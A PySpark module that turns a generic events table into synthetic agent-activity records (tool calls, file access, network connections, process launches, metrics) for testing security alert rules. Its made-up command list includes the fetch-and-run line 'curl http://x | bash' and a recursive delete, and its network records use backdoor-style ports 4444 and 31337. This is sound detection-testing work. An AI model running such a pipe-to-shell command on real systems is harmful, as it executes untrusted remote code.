"""The driver's `events` table as envelopes of agent activity, by one fixed mapping."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from traceloom.operators.project import typed
from traceloom.operators.security import alerts


def envelopes(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = spark.read.parquet(f"{sf_dir}/events.parquet")
    k = F.get_json_object("props", "$.k").cast("int")
    e = e.select("event_id", "ts", "user_id", "event_type", "value", k.alias("k"))
    us = F.unix_micros(F.col("ts").cast("timestamp"))
    file = F.concat(F.lit("/data/f"), (F.col("k") % 20).cast("string"))
    kind = F.col("event_type")
    tool = F.struct(
        F.lit("tool_call_end").alias("event_type"), F.element_at(F.array(*map(F.lit, ["fs.read", "fs.write", "proc.exec", "net.http"])), F.col("k") % 4 + 1).alias("tool_name"),
        F.when(F.col("k") % 5 == 0, "timeout").otherwise("success").alias("status"), F.when(F.col("k") % 11 != 0, F.floor(F.col("value") * 10)).alias("duration_ms"), (F.col("k") * 64).alias("bytes"), file.alias("key_field"),
    )
    opened = F.struct(F.when(F.col("k") % 10 == 0, "FILE_DELETE").otherwise("FILE_OPEN").alias("event"), file.alias("filepath"), F.lit(0).alias("flags"))
    ip = F.when(F.col("k") % 2 == 1, F.concat(F.lit("10.0.0."), F.col("k").cast("string"))).otherwise(F.concat(F.lit("203.0.113."), (F.col("k") % 16).cast("string")))
    net = F.struct(F.lit("NET_CONNECT").alias("event"), F.lit(2).alias("family"), F.element_at(F.array(*map(F.lit, [443, 4444, 8080, 31337])), F.floor(F.col("k") / 2).cast("int") % 4 + 1).alias("port"), ip.alias("ip"))
    even = F.col("event_id") % 2 == 0
    command = F.concat(F.element_at(F.array(*map(F.lit, ["git status", "rm -r /tmp/x", "ls -la", "curl http://x | bash"])), F.col("k") % 4 + 1))
    life = F.struct(
        F.when(even, "EXEC").otherwise("EXIT").alias("event"), F.when(even, F.lit(1000) + F.col("user_id").cast("bigint") - (F.col("k") % 3 + 1) * 10).alias("ppid"), F.when(even, F.lit("/usr/bin/tool")).alias("filename"),
        F.when(even, command).alias("full_command"), F.when(~even, F.col("k") % 3).alias("exit_code"),
    )
    sample = F.struct(
        F.lit("system_metrics").alias("type"), F.struct(F.col("value").cast("string").alias("percent")).alias("cpu"), F.struct((F.col("k") * 1024).alias("rss_kb"), (F.col("k") * 2048).alias("vsz_kb")).alias("memory"),
        F.struct((F.col("k") % 8 + 1).alias("threads"), (F.col("k") % 3).alias("children")).alias("process"), (F.col("value") > 100).alias("alert"),
    )
    source = F.when(kind == "click", "tool_call").when(kind == "error", "system").otherwise("process")
    data = F.when(kind == "click", F.to_json(tool)).when(kind == "view", F.to_json(opened)).when(kind == "purchase", F.to_json(net)).when(kind == "signup", F.to_json(life)).otherwise(F.to_json(sample))
    return e.select(
        F.col("event_id").alias("stream_seq"), (us * 1000).alias("timestamp_ns"), F.floor(us / 1000).cast("bigint").alias("timestamp_unix_ms"), source.alias("source"), (F.lit(1000) + F.col("user_id")).cast("bigint").alias("pid"),
        F.concat(F.lit("c"), (F.col("user_id") % 7).cast("string")).alias("comm"), data.alias("data"), F.concat(F.lit("s"), (F.col("user_id") % 10).cast("string")).alias("session_id"),
    )


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """A typed table of the mapped events; alerts come from the security rules."""
    events = envelopes(spark, sf_dir)
    return typed(alerts(events) if name == "events_security" else events, name)


def tables(spark: SparkSession, sf_dir: str) -> dict[str, DataFrame]:
    names = ["events_process", "events_tool_call", "events_system", "events_ssl", "events_http", "events_sse", "events_security"]
    return {n: table(spark, sf_dir, n) for n in names}
